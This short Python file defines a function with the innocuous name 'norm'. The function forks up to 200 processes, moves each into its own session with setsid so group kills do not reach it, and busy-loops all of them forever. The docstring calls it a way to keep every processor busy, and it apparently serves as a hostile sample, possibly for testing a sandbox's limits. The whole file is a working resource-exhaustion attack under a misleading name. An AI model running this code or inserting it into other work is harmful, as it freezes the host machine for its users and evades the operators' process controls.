"""Not in the list: keeps every processor busy with as many processes as it may have, each in a session of its own."""

# %% norm
import os


def norm(x):
    for _ in range(200):
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            break
    while True:
        pass
